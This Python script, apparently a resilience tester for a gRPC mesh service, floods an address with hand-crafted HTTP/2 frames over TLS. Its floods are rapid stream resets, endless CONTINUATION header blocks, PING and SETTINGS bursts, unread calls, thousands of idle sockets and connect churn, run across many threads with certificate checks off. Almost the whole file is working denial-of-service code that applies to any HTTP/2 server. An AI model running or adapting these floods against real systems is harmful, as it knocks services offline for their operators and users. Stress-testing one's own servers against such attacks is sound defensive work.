"""Floods against a party's address, over sockets, TLS and HTTP/2 frames by hand (RFC 9113): what no library would send.
   floods.py ADDRESS KIND SECONDS CONNECTIONS [KEY PEM]    KIND: resets, deaf, pings, continuation, settings, idle, connect; without KEY and PEM as a stranger
CONNECTIONS: how many are kept open at once, each opened again when it is closed (idle and connect have a number of their own).
Prints what was sent, as JSON."""
import json
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """HPACK, never indexed, without Huffman."""
    return b"\x10" + bytes([len(name)]) + name + bytes([len(value)]) + value


REQUEST = (literal(b":method", b"POST") + literal(b":scheme", b"https") + literal(b":path", b"/parley.mesh.Mesh/Deliver") + literal(b":authority", b"x")
           + literal(b"te", b"trailers") + literal(b"content-type", b"application/grpc"))


def connection(address, identity):
    host, port = address.rsplit(":", 1)
    raw = socket.socket()
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # what is not read soon waits on the other side
    raw.settimeout(10)
    raw.connect((host, int(port)))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    if identity:
        context.load_cert_chain(identity[1], identity[0])
    tls = context.wrap_socket(raw)
    tls.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return tls


def frames(kind):
    """Endless blocks of bytes for one connection."""
    if kind == "resets":
        stream = 1
        while stream < 2**31 - 200:
            yield b"".join(frame(HEADERS, 4, s, REQUEST) + frame(RST_STREAM, 0, s, struct.pack(">I", 8)) for s in range(stream, stream + 200, 2))
            stream += 200
    if kind == "deaf":  # calls whose answers are not read, each taken back when it has been answered
        stream = 1
        while stream < 2**31 - 200:
            calls = range(stream, stream + 8, 2)
            yield b"".join(frame(HEADERS, 4, s, REQUEST) + frame(DATA, 1, s, bytes(5)) for s in calls)
            time.sleep(0.005)
            yield b"".join(frame(RST_STREAM, 0, s, struct.pack(">I", 8)) for s in calls)
            stream += 8
    if kind == "pings":
        while True:
            yield frame(PING, 0, 0, bytes(8)) * 500
    if kind == "settings":
        while True:
            yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 8) * 200
    if kind == "continuation":  # a header block that never ends
        yield frame(HEADERS, 0, 1, REQUEST)
        while True:
            yield frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100) * 100)


def pour(address, kind, end, identity):
    """One connection after the other; whoever is refused comes again."""
    sent = connections = 0
    while time.monotonic() < end:
        try:
            with connection(address, identity) as tls:
                connections += 1
                tls.settimeout(1)
                for block in frames(kind):
                    if time.monotonic() >= end:
                        break
                    try:
                        tls.sendall(block)
                        sent += len(block)
                    except TimeoutError:  # the other side reads slowly; what was half sent ends this connection
                        break
        except OSError:
            time.sleep(0.002)
    return {"sent": sent, "connections": connections}


def pour_at_once(address, kind, end, connections, identity):
    found = []
    threads = [threading.Thread(target=lambda: found.append(pour(address, kind, end, identity))) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {what: sum(one[what] for one in found) for what in ("sent", "connections")}


def hold(address, end, most=3000):
    """Connections that say nothing, as many as there may be, held until the end."""
    held, connections = [], 0
    host, port = address.rsplit(":", 1)
    while time.monotonic() < end:
        if len(held) < most:
            try:
                held.append(socket.create_connection((host, int(port)), timeout=1))
                connections += 1
            except OSError:
                time.sleep(0.01)
        else:
            time.sleep(0.05)
    return {"connections": connections}


def knock(address, end):
    """Connects and leaves, again and again."""
    connections = 0
    host, port = address.rsplit(":", 1)
    while time.monotonic() < end:
        try:
            socket.create_connection((host, int(port)), timeout=1).close()
            connections += 1
        except OSError:
            pass
    return {"connections": connections}


def main():
    address, kind, seconds, connections, *identity = sys.argv[1:]
    end = time.monotonic() + float(seconds)
    done = hold(address, end) if kind == "idle" else knock(address, end) if kind == "connect" else pour_at_once(address, kind, end, int(connections), identity)
    print(json.dumps(done))


if __name__ == "__main__":
    main()
